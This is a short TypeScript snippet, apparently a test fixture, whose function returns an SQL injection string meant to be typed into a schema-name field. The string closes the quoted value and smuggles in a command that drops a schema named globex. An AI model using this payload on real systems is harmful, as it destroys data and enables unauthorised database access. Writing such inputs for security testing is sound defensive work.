/** What you type into the field “Name of your schema”. */
export function payload(): string {
  return 'x"; drop schema globex; --'
}
